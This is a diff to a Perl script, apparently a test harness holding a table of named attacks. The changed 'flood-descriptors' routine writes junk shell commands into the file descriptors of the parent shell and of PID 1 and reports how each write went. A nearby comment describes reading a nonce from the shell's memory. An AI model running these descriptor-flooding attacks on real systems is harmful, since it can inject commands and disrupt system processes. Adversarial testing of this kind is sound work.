@@ -289,14 +289,24 @@ $attacks{'kill-all'} = sub {
     sleep 60;
 };
 
+# PID 1's are tried by number, as they may not be listed. What came of it is said after all the junk, some of which goes
+# the same way.
 $attacks{'flood-descriptors'} = sub {
     my $junk = "echo junk\n" x 400;
-    for my $path (map { glob "/proc/$_/fd/*" } getppid, 1) {
+    my $shell = getppid;
+    my $listed = opendir my $list, '/proc/1/fd';
+    my @said = 'list of PID 1: ' . ($listed ? 'done' : error());
+    for my $path (glob("/proc/$shell/fd/*"), map { "/proc/1/fd/$_" } 0 .. 19) {
+        my $what = $path =~ m{^/proc/1/} ? 'PID 1' : 'its shell, ' . (readlink $path // 'unknown');
         my $bytes = 0;
         if (sysopen(my $file, $path, O_WRONLY | O_NONBLOCK)) {
-            while ($bytes < 2 << 20) { $bytes += syswrite($file, $junk) // last }
+            while ($bytes < 1 << 20) { $bytes += syswrite($file, $junk) // last }
+            push @said, "$path of $what: $bytes " . ($bytes < 1 << 20 ? error() : 'done');
+        } else {
+            push @said, "$path of $what: " . error();
         }
     }
+    print map { "\n$_" } @said;
 };
 
 # Reads the nonce and the command's number from the shell's memory, ends the command in the shell's name, and fails.
